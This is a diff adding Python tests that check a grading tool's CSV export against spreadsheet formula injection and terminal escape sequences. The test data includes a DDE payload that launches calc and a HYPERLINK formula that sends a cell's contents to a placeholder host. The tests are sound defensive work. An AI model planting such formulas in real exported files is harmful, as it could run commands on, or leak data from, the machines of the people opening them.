@@ -107,6 +107,36 @@ def test_no_text_is_a_formula_in_a_spreadsheet(tmp_path, name):
     assert [p.name for p in path.parent.iterdir()] == ["marks.csv"]
 
 
+FORMULAS = ["=1+1", "@sum(1)", "+cmd", "-cmd|' /c calc'!A0", '=HYPERLINK("http://there.example/?"&A1)']
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_part_of_a_text_is_a_formula_whatever_a_spreadsheet_divides_at(tmp_path, separator, formula):
+    between = ["{}", "x;{};y", "x,{}", "x\t{}", '"{}"', 'x";{}', "x|{}", "x\n{}"]
+    write_csv([result("ada", note=text.format(formula)) for text in between], "a", tmp_path / "marks.csv")
+    text = (tmp_path / "marks.csv").read_text(encoding="utf-8")
+    assert text.replace('""', '"').count(formula) == len(between)  # nothing of it is lost
+    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+        for row in csv.reader(io.StringIO(text), delimiter=separator, quoting=quoting):
+            assert [found for found in row if found.strip(' "').startswith(("=", "+", "-", "@"))] == []
+
+
+def test_what_is_marked_is_not_taken_for_another_text(tmp_path):
+    names = ["=1", "'=1", "''=1", "a;=1", "a;'=1", "a; =1", "a; '=1", "a\x1b", r"a\x1b", "a", "'a"]
+    write_csv([result(name) for name in names], "a", tmp_path / "marks.csv")
+    with (tmp_path / "marks.csv").open(newline="") as file:
+        found = [row["student"] for row in csv.DictReader(file)]
+    assert len(set(found)) == len(names) and {"a", "'a"} < set(found)
+
+
+def test_honest_numbers_are_not_marked(tmp_path):
+    note = "double is [ 0. -0. -1.5], expected (1, -2); a - b = c"
+    write_csv([result("ada", note=note)], "a", tmp_path / "marks.csv")
+    with (tmp_path / "marks.csv").open(newline="") as file:
+        assert next(csv.DictReader(file))["note"] == note
+
+
 def test_a_strangers_text_cannot_move_the_cursor():
     assert plain("a\x1b[31mb\r\nc\u202e") == "a [31mb c"
     assert plain("x" * 300) == "x" * 199 + "…"
@@ -173,6 +203,7 @@ def test_another_number_of_graded_cells_is_explained(toy, capsys):
     ("name", "shown"),
     [
         ("ada", "ada"),
+        (r"\x1b[31m", r"\\x1b[31m"),
         (" é  x ", " é  x "),
         ("\x1b[31m", r"\x1b[31m"),
         ("a\nb\u202e", r"a\x0ab\u202e"),
